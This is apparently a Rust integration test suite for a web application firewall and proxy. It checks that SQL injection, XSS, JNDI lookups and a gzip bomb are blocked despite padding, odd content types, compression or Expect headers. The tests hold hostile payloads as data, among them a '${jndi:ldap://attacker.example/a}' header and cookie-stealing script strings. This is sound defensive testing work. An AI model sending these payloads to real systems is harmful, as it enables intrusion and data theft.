//! Issue 17 items 3, 4 and 7 (Expect): hostile bodies and heads against the engine + proxy stack
//! as `rampart run` wires it, with the default rules. Exact bytes over raw TCP (and raw h2c
//! frames, hand-encoded); each test checks what the client got and what the origin received.

mod support;

use std::io::Write as _;

use rampart::l7::{EncodedBody, EngineConfig, OverLimit};
use support::h2c as h2;
use support::raw_http::{exchange, read_answer, RecordingOrigin, Stack, StackConfig, QUIET};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

const SQLI: &str = "1'%20OR%20'1'%3D'1";

async fn stack(origin: &RecordingOrigin, engine: EngineConfig) -> Stack {
    Stack::start(
        origin,
        StackConfig {
            engine,
            ..StackConfig::default()
        },
    )
    .await
}

/// Sends `bytes` to a fresh stack; returns (client's first status, requests the origin got,
/// the client's answer, ids of the rules that matched).
async fn probe_with(engine: EngineConfig, bytes: &[u8]) -> (u16, usize, String, Vec<u32>) {
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, engine).await;
    let a = exchange(stack.addr, bytes, false).await;
    let got = origin.requests().len();
    let hits = hits(&stack);
    stack.shutdown().await;
    (a.status(), got, a.text(), hits)
}

async fn probe(bytes: &[u8]) -> (u16, usize, String, Vec<u32>) {
    probe_with(EngineConfig::default(), bytes).await
}

/// Ids of the rules that have matched on this stack.
fn hits(stack: &Stack) -> Vec<u32> {
    let stats = stack.engine.stats();
    stats
        .rule_hits
        .iter()
        .filter(|(_, n)| *n > 0)
        .map(|(id, _)| *id)
        .collect()
}

fn post(extra_headers: &str, body: &[u8]) -> Vec<u8> {
    let mut req = format!(
        "POST /submit HTTP/1.1\r\nHost: shop.example\r\n{extra_headers}Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    req
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn brotli(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut w = brotli::CompressorWriter::new(&mut out, 4096, 9, 22);
    w.write_all(data).unwrap();
    drop(w);
    out
}

const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";

// ---- Item 3: every parsing cap is a visible condition the default rules block on ----

#[tokio::test]
async fn sqli_after_512_query_args_is_refused() {
    let pad: String = (0..512).map(|i| format!("a{i}=1&")).collect();
    let req = format!("GET /search?{pad}q={SQLI} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (403, 0, vec![900600]), "{text}");
    // Exactly at the cap, a clean request still passes.
    let pad: String = (0..512).map(|i| format!("a{i}=1&")).collect();
    let req = format!("GET /search?{pad} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (200, 1, vec![]), "{text}");
}

#[tokio::test]
async fn xss_after_256_cookie_pairs_is_refused() {
    let pad: String = (0..256).map(|i| format!("c{i}=1; ")).collect();
    let req = format!(
        "GET / HTTP/1.1\r\nHost: shop.example\r\nCookie: {pad}x=<script>alert(1)</script>\r\n\r\n"
    );
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (403, 0, vec![900600]), "{text}");
}

#[tokio::test]
async fn sqli_after_1024_form_fields_is_refused() {
    let mut body: String = (0..1024).map(|i| format!("f{i}=1&")).collect();
    body.push_str(&format!("q={SQLI}"));
    let (status, got, text, hit) = probe(&post(FORM, body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900601]), "{text}");
}

#[tokio::test]
async fn sqli_under_33_nested_json_arrays_is_refused() {
    let body = format!("{}\"1' OR '1'='1\"{}", "[".repeat(33), "]".repeat(33));
    let ct = "Content-Type: application/json\r\n";
    let (status, got, text, hit) = probe(&post(ct, body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900602]), "{text}");
}

#[tokio::test]
async fn jndi_header_after_300_h2_headers_is_refused() {
    let jndi: (&[u8], &[u8]) = (b"x-api-version", b"${jndi:ldap://attacker.example/a}");
    let pad: Vec<(Vec<u8>, Vec<u8>)> = (0..300)
        .map(|i| (format!("x-h{i:03}").into_bytes(), b"1".to_vec()))
        .collect();
    let mut headers: Vec<(&[u8], &[u8])> = pad
        .iter()
        .map(|(n, v)| (n.as_slice(), v.as_slice()))
        .collect();
    headers.push(jndi);
    // The harness decodes: a small h2 request passes, and the same JNDI header alone is refused.
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let clean = h2::exchange(stack.addr, &h2::request(&[(b"x-a", b"1")])).await;
    assert_eq!(clean.status, Some(200), "{clean:?}");
    let alone = h2::exchange(stack.addr, &h2::request(&[jndi])).await;
    assert_eq!(alone.status, Some(403), "{alone:?}");
    let padded = h2::exchange(stack.addr, &h2::request(&headers)).await;
    assert_eq!(padded.status, Some(403), "{padded:?}");
    // Only the clean request reached the origin.
    assert_eq!(origin.requests().len(), 1);
    stack.shutdown().await;
}

/// Over HTTP/2, hyper's server takes header lists up to 16 KiB (name + value + 32 per field);
/// a larger one (here in HEADERS + CONTINUATION frames) is refused before the engine.
#[tokio::test]
async fn h2_header_list_over_16_kib_is_refused_by_the_server() {
    let long = vec![b'v'; 1000];
    let names: Vec<Vec<u8>> = (0..20)
        .map(|i| format!("x-long-{i}").into_bytes())
        .collect();
    let headers: Vec<(&[u8], &[u8])> = names
        .iter()
        .map(|n| (n.as_slice(), long.as_slice()))
        .collect();
    let req = h2::request(&headers);
    assert!(
        req.windows(4).any(|w| w == [0x09, 0x04, 0, 0]),
        "uses CONTINUATION"
    );
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let a = h2::exchange(stack.addr, &req).await;
    assert_eq!(a.status, Some(431), "{a:?}");
    assert!(origin.requests().is_empty());
    stack.shutdown().await;
}

/// Over HTTP/1.1, hyper refuses more than 100 headers itself (431) before the engine.
#[tokio::test]
async fn h1_request_with_300_headers_is_refused_by_the_server() {
    let pad: String = (0..300).map(|i| format!("x-h{i:03}: 1\r\n")).collect();
    let req = format!(
        "GET / HTTP/1.1\r\nHost: shop.example\r\n{pad}X-Api: ${{jndi:ldap://a.example/a}}\r\n\r\n"
    );
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (431, 0, vec![]), "{text}");
}

// ---- Item 4: bodies are inspected whatever their declared type and encoding ----

#[tokio::test]
async fn form_body_declared_text_plain_is_inspected() {
    let body = format!("q={SQLI}");
    let (status, got, text, hit) =
        probe(&post("Content-Type: text/plain\r\n", body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
}

#[tokio::test]
async fn json_body_declared_text_json_is_inspected() {
    let body = br#"{"q":"1' OR '1'='1"}"#;
    let (status, got, text, hit) = probe(&post("Content-Type: text/json\r\n", body)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
}

#[tokio::test]
async fn form_body_without_content_type_is_inspected() {
    let body = format!("q={SQLI}");
    let (status, got, text, hit) = probe(&post("", body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
    // A JSON body without a type is sniffed too.
    let (status, got, text, hit) = probe(&post("", br#"{"q":"1' OR '1'='1"}"#)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
}

#[tokio::test]
async fn raw_text_body_of_unknown_type_is_inspected() {
    let body = b"<script>alert(document.cookie)</script>";
    let ct = "Content-Type: application/x-custom\r\n";
    let (status, got, text, hit) = probe(&post(ct, body)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900202, 900999]), "{text}");
    // A clean body of the same type is forwarded whole.
    let (status, got, text, hit) = probe(&post(ct, b"hello world")).await;
    assert_eq!((status, got, hit), (200, 1, vec![]), "{text}");
}

#[tokio::test]
async fn duplicate_content_type_is_refused_before_forwarding() {
    let body = format!("q={SQLI}");
    let headers = format!("Content-Type: text/plain\r\n{FORM}");
    let (status, got, text, hit) = probe(&post(&headers, body.as_bytes())).await;
    assert_eq!((status, got, hit), (400, 0, vec![]), "{text}");
    // Even with a clean body: the origin and the engine could read different types.
    let (status, got, text, hit) = probe(&post(&headers, b"a=1")).await;
    assert_eq!((status, got, hit), (400, 0, vec![]), "{text}");
}

#[tokio::test]
async fn compressed_bodies_are_decoded_and_inspected() {
    let attack = format!("q={SQLI}");
    for (coding, body) in [
        ("gzip", gzip(attack.as_bytes())),
        ("x-gzip", gzip(attack.as_bytes())),
        ("deflate", zlib(attack.as_bytes())),
        ("br", brotli(attack.as_bytes())),
        ("gzip, br", brotli(&gzip(attack.as_bytes()))),
    ] {
        let headers = format!("{FORM}Content-Encoding: {coding}\r\n");
        let (status, got, text, hit) = probe(&post(&headers, &body)).await;
        assert_eq!(
            (status, got, hit),
            (403, 0, vec![900102, 900999]),
            "{coding}: {text}"
        );
    }
}

#[tokio::test]
async fn clean_gzip_body_reaches_the_origin_unchanged() {
    let body = gzip(b"name=alice&note=hello");
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let a = exchange(stack.addr, &post(&headers, &body), false).await;
    assert_eq!(a.status(), 200, "{}", a.text());
    let seen = origin.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body, body);
    assert_eq!(seen[0].header("content-encoding"), vec!["gzip".to_string()]);
    stack.shutdown().await;
}

/// 16 MiB of zeros in about 16 KiB of gzip: decoded only up to the body limit.
#[tokio::test]
async fn gzip_bomb_is_bounded_counted_and_refused() {
    let bomb = gzip(&vec![0u8; 16 << 20]);
    assert!(bomb.len() < 64 * 1024, "{}", bomb.len());
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let a = exchange(stack.addr, &post(&headers, &bomb), false).await;
    assert_eq!(a.status(), 413, "{}", a.text());
    assert!(origin.requests().is_empty());
    let s = stack.engine.stats();
    assert_eq!(
        (s.body_over_limit, s.body_decoded_over_limit),
        (1, 1),
        "{s:?}"
    );
    stack.shutdown().await;
}

/// With `InspectPrefix`, the decoded prefix is inspected and the request goes on, as for a
/// plain body over the limit.
#[tokio::test]
async fn gzip_bomb_with_inspect_prefix_inspects_the_prefix() {
    let cfg = EngineConfig {
        over_limit: OverLimit::InspectPrefix,
        ..EngineConfig::default()
    };
    let mut clean = b"a=".to_vec();
    clean.extend(vec![b'0'; 16 << 20]);
    let mut attack = format!("q={SQLI}&a=").into_bytes();
    attack.extend(vec![b'0'; 16 << 20]);
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, cfg).await;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let a = exchange(stack.addr, &post(&headers, &gzip(&clean)), false).await;
    assert_eq!(a.status(), 200, "{}", a.text());
    let a = exchange(stack.addr, &post(&headers, &gzip(&attack)), false).await;
    assert_eq!(a.status(), 403, "{}", a.text());
    assert_eq!(origin.requests().len(), 1);
    assert_eq!(stack.engine.stats().body_decoded_over_limit, 2);
    stack.shutdown().await;
}

#[tokio::test]
async fn corrupt_gzip_body_is_refused() {
    let mut body = gzip(b"q=hello");
    body[12] ^= 0xff;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let (status, got, text, hit) = probe(&post(&headers, &body)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900602]), "{text}");
}

#[tokio::test]
async fn unknown_content_encoding_is_refused() {
    let headers = format!("{FORM}Content-Encoding: zstd\r\n");
    let (status, got, text, hit) = probe(&post(&headers, b"(\xb5/\xfd whatever")).await;
    assert_eq!((status, got, hit), (415, 0, vec![]), "{text}");
}

#[tokio::test]
async fn encoded_bodies_refused_when_configured() {
    let cfg = EngineConfig {
        encoded_body: EncodedBody::Refuse,
        ..EngineConfig::default()
    };
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let (status, got, text, hit) = probe_with(cfg.clone(), &post(&headers, &gzip(b"a=1"))).await;
    assert_eq!((status, got, hit), (415, 0, vec![]), "{text}");
    // `identity` is no encoding.
    let headers = format!("{FORM}Content-Encoding: identity\r\n");
    let (status, got, text, hit) = probe_with(cfg, &post(&headers, b"a=1")).await;
    assert_eq!((status, got, hit), (200, 1, vec![]), "{text}");
}

// ---- Item 7: `Expect: 100-continue` with a body over the limit ----

const EXPECT_HEAD: &[u8] = b"POST /upload HTTP/1.1\r\nHost: shop.example\r\n\
    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\
    Expect: 100-continue\r\n\r\n";

#[tokio::test]
async fn expect_continue_over_the_limit_gets_413_without_100() {
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let a = exchange(stack.addr, EXPECT_HEAD, false).await;
    assert_eq!(a.statuses(), vec![413], "{}", a.text());
    assert!(origin.requests().is_empty());
    // Without Expect, the same head is refused at once too (the body is never read).
    let head = String::from_utf8_lossy(EXPECT_HEAD).replace("Expect: 100-continue\r\n", "");
    let a = exchange(stack.addr, head.as_bytes(), false).await;
    assert_eq!(a.statuses(), vec![413], "{}", a.text());
    assert!(origin.requests().is_empty());
    stack.shutdown().await;
}

/// `InspectPrefix`: the body is read (so `100 Continue` is sent), its first `body_limit` bytes
/// inspected and the whole body forwarded.
#[tokio::test]
async fn expect_continue_over_the_limit_with_inspect_prefix() {
    let cfg = EngineConfig {
        over_limit: OverLimit::InspectPrefix,
        ..EngineConfig::default()
    };
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, cfg).await;
    for (body_start, want) in [("a=clean&b=", 200), ("q=1'+OR+'1'%3D'1&b=", 403)] {
        let mut s = TcpStream::connect(stack.addr).await.unwrap();
        s.write_all(EXPECT_HEAD).await.unwrap();
        let interim = read_answer(&mut s, QUIET).await;
        assert_eq!(interim.statuses(), vec![100], "{}", interim.text());
        let mut body = body_start.as_bytes().to_vec();
        body.resize(200_000, b'x');
        let _ = s.write_all(&body).await;
        let a = read_answer(&mut s, QUIET).await;
        assert_eq!(a.status(), want, "{}", a.text());
    }
    let seen = origin.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body.len(), 200_000);
    stack.shutdown().await;
}
